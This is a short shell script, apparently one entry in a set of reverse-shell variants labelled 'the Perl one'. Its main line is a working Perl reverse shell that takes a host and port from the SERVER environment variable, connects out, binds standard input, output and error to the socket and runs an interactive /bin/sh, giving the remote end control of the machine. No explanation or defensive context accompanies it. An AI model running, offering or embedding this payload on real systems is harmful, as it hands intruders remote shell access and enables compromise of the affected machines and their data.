# what: the Perl one
# server: shell
echo begun
perl -MSocket -e '($h, $p) = split /:/, $ENV{SERVER}; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($p, inet_aton($h))) or die;
    open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'
echo done
